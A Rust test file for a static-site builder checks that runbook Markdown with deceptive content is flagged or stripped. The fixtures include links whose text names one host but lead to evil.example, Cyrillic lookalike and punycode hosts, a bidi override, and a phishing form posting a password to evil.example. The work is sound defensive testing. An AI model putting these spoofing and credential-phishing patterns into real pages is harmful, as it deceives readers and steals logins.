//! Text under `content/` that reads as something other than what it is (a follow-up
//! review of issue 12): links whose text names another host, lookalike hosts, bidi
//! controls, form controls and dropped classes. Each is told at its file:line:col.

mod common;

use std::fs;
use std::path::Path;

use common::*;

const RUNBOOK: &str = "content/runbooks/profit/aggregate-profit.md";

/// Appends `text` to the runbook; the line (from 1) its first line lands on.
fn append(root: &Path, text: &str) -> usize {
    let path = root.join(RUNBOOK);
    let before = read(&path);
    let line = before.matches('\n').count() + 1;
    fs::write(&path, before + text).unwrap();
    line
}

fn build(root: &Path) -> std::process::Output {
    pipebook(&["build", "--root", root.to_str().unwrap()])
}

/// The diagnostics at `line` of the runbook, each as its first line (`warning: …`) and
/// its location (`file:line:col`).
fn at_line(err: &str, line: usize) -> Vec<(String, String)> {
    let at = format!("{RUNBOOK}:{line}:");
    let mut found = Vec::new();
    let mut head = "";
    for l in err.lines() {
        if l.starts_with("warning: ") || l.starts_with("error: ") {
            head = l;
        } else if let Some(loc) = l.trim_start().strip_prefix("┌─ ") {
            if loc.starts_with(&at) {
                found.push((head.to_string(), loc.to_string()));
            }
        }
    }
    found
}

#[test]
fn a_link_whose_text_names_another_host_is_a_warning() {
    let site = example_site();
    let root = site.path();
    let first = append(
        root,
        concat!(
            "\n[https://good.example/](https://evil.example/)\n",
            "\n[www.good.example](https://evil.example) [good.example](https://evil.example)\n",
            "\n[https://good.example/a](https://good.example/b), <https://evil.example/>,\n",
            "[the dashboard](https://evil.example/) and [docs.good.example](https://good.example/)\n",
        ),
    );
    let out = build(root);
    let err = stderr(&out);
    assert!(out.status.success(), "{err}");
    for line in [first + 1, first + 3] {
        let said = at_line(&err, line);
        assert!(
            said.iter().any(|(h, _)| h.starts_with("warning:")
                && h.contains("shows the host `good.example`")
                && h.contains("leads to `evil.example`")),
            "line {line}: {err}"
        );
    }
    assert_eq!(err.matches("shows the host").count(), 2, "{err}");
    assert!(
        err.contains("make the link's text say where it leads"),
        "{err}"
    );
}

#[test]
fn a_link_host_mixing_scripts_is_a_warning() {
    let site = example_site();
    let root = site.path();
    let first = append(
        root,
        "\nPay at [the portal](https://p\u{0430}ypal.com/) or [here](https://xn--pypal-4ve.com/x).\n",
    );
    let out = build(root);
    let err = stderr(&out);
    assert!(out.status.success(), "{err}");
    let said = at_line(&err, first + 1);
    let columns: Vec<_> = said
        .iter()
        .filter(|(h, _)| {
            h.starts_with("warning:") && h.contains("mixes letters of several scripts")
        })
        .map(|(_, loc)| loc.rsplit(':').next().unwrap().to_string())
        .collect();
    // Each link, at its `[`.
    assert_eq!(columns, ["8", "45"], "{err}");
}

#[test]
fn bidi_overrides_are_errors_and_isolates_in_prose_warnings() {
    let site = example_site();
    let root = site.path();
    let first = append(
        root,
        concat!(
            "\n## Access \u{202e}nimda\n",
            "\nשלום \u{2067}world\u{2069} text\n",
            "\n```sh\nrm -rf /tmp/x \u{2066}# harmless\u{2069}\n```\n",
        ),
    );
    let out = build(root);
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(1), "{err}");
    // `## Access ` is 10 characters: the override is at column 11.
    let heading = at_line(&err, first + 1);
    assert!(
        heading.len() == 1
            && heading[0].1.ends_with(":11")
            && heading[0]
                .0
                .starts_with("error: a Unicode bidi override (\\u{202e})"),
        "{err}"
    );
    let prose = at_line(&err, first + 3);
    assert!(
        prose.len() == 2
            && prose
                .iter()
                .all(|(h, _)| h.starts_with("warning:") && h.contains("isolate")),
        "{err}"
    );
    let code = at_line(&err, first + 6);
    assert!(
        code.len() == 2
            && code
                .iter()
                .all(|(h, _)| h.starts_with("error:") && h.contains("in code")),
        "{err}"
    );
    assert!(
        !err.contains('\u{202e}'),
        "the log carries the override: {err}"
    );
}

/// `<input type="password">` lost its `type` and was kept: an empty text box on the
/// page, under the author's "Sign in again". A task list's checkbox stays, disabled.
#[test]
fn form_controls_are_removed_whole_and_task_checkboxes_stay() {
    let site = example_site();
    let root = site.path();
    let first = append(
        root,
        concat!(
            "\n- [x] Drained the queue\n",
            "\n<form action=\"https://evil.example/\">Sign in again: ",
            "<input type=\"password\" name=\"p\"><button>OK</button></form>\n",
        ),
    );
    let out = build(root);
    let err = stderr(&out);
    assert!(out.status.success(), "{err}");
    assert!(
        at_line(&err, first + 3)
            .iter()
            .any(|(h, _)| h.starts_with("warning:") && h.contains("`<input>` (a form control")),
        "{err}"
    );
    let page = read(&root.join("public/runbooks/profit/aggregate-profit/index.html"));
    let start = page.find("<article class=\"runbook\"").unwrap();
    let article = &page[start..start + page[start..].find("</article>").unwrap()];
    assert_eq!(article.matches("<input").count(), 1, "{article}");
    assert!(
        article.contains("<input disabled=\"\" type=\"checkbox\" checked=\"\">"),
        "{article}"
    );
    for gone in ["<form", "<button", "password"] {
        assert!(!article.contains(gone), "{gone} in {article}");
    }
}

/// A heading's `{.class}` naming the theme's classes lost them without a word, where
/// raw HTML's are told.
#[test]
fn classes_removed_from_a_heading_are_told() {
    let site = example_site();
    let root = site.path();
    let first = append(
        root,
        "\n## Not a banner {.preview-banner .warn #not-a-banner}\n\n## Fine {#fine}\n",
    );
    let out = build(root);
    let err = stderr(&out);
    assert!(out.status.success(), "{err}");
    let said = at_line(&err, first + 1);
    assert!(
        said.len() == 1
            && said[0].1.ends_with(":1")
            && said[0]
                .0
                .starts_with("warning: class `preview-banner warn` of the heading is removed"),
        "{err}"
    );
    assert!(
        err.contains("remove `.preview-banner .warn` from the heading"),
        "{err}"
    );
    assert!(at_line(&err, first + 3).is_empty(), "{err}");
}
